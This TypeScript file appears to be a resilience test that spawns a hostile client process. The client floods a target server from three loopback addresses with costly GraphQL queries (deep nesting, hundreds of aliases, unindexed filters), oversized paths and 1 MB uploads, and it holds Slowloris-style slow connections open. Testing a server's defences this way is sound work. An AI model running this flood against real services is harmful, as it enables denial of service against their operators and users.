/** A client that means ill, in a process of its own: from when it is told, all that it knows at once, from a few addresses, until it is ended. */
import { Agent, request } from 'node:http'
import { connect } from 'node:net'

const url = new URL(process.argv[2]!)
const addresses = ['127.0.2.1', '127.0.2.2', '127.0.2.3']
const answers = new Map<string, number>()

const inferences = 'inferences(limit: 1000, orderBy: "position") { items { inferenceId'
const deep = `{ owners { items { ${'inferences { items { ownerAccount { '.repeat(20)}address${' } } }'.repeat(20)} } } }`
const aliases = `{ ${Array.from({ length: 500 }, (_, i) => `a${i}: chains { items { chainId } }`).join(' ')} }`
const huge = `{ settlements(limit: 1000) { items { ${inferences} } } } } }`
const large = `{ ${inferences} commitment modelId root owner } } }`
const unindexed = '{ inferences(where: { commitment_contains: "ff" }) { items { sequence } } }'
const counted = '{ inferences { totalCount } }'
// Made once: what an attacker computes is not to be measured.
const questions = [deep, aliases, huge, large, unindexed, counted, '{ a '.repeat(20_000)].map(
  (query) => Buffer.from(JSON.stringify({ query })),
)
const upload = Buffer.alloc(1_000_000, 'x')
const paths = [
  '/inferences?limit=1000',
  '/inferences?limit=1000&status=refuted',
  '/stats?days=366&weeks=104',
  `/inferences/0x${'1'.repeat(64)}/proof`,
  `/${'x'.repeat(10_000)}`,
  '/sql/db?sql=%7B%7D',
]

/** By so many from each address, without a pause. */
const askers = 40
process.once('message', () => {
  for (const localAddress of addresses) {
    const agent = new Agent({ keepAlive: true, localAddress, maxSockets: askers })
    for (let i = 0; i < askers; i++) void flood(agent)
    for (let i = 0; i < 50; i++) slow(localAddress, i)
  }
})
process.on('SIGTERM', () => {
  process.send!(Object.fromEntries(answers))
  process.exit()
})

async function flood(agent: Agent): Promise<never> {
  for (let i = Math.floor(Math.random() * 100); ; i++) {
    const kind = i % 3
    const status = await (kind === 0
      ? ask(agent, 'GET', paths[i % paths.length]!)
      : kind === 1
        ? ask(agent, 'POST', '/graphql', questions[i % questions.length])
        : ask(agent, 'PUT', `/batches/${'0'.repeat(64)}`, upload))
    answers.set(status, (answers.get(status) ?? 0) + 1)
  }
}

function ask(agent: Agent, method: string, path: string, body?: Buffer): Promise<string> {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json' }
    const sent = request(new URL(path, url), { method, agent, headers, timeout: 20_000 })
    sent.on('error', () => setTimeout(() => resolve('cut off'), 5))
    sent.on('timeout', () => sent.destroy())
    sent.on('response', (response) => {
      response.resume()
      response.on('close', () => resolve(String(response.statusCode)))
    })
    sent.end(body)
  })
}

/** A connection that asks for much and reads nothing, or says one byte of its request now and then. */
function slow(localAddress: string, i: number): void {
  const socket = connect({ host: url.hostname, port: Number(url.port), localAddress })
  const again = () => setTimeout(() => slow(localAddress, i), 200)
  socket.on('error', () => undefined)
  socket.on('close', again)
  const body = JSON.stringify({ query: large })
  const head = `POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`
  if (i % 2) {
    socket.write(head + body)
    socket.pause()
  } else {
    let sent = 0
    const timer = setInterval(() => {
      socket.write((head + body)[sent++ % 200]!)
    }, 500)
    socket.on('close', () => clearInterval(timer))
  }
}
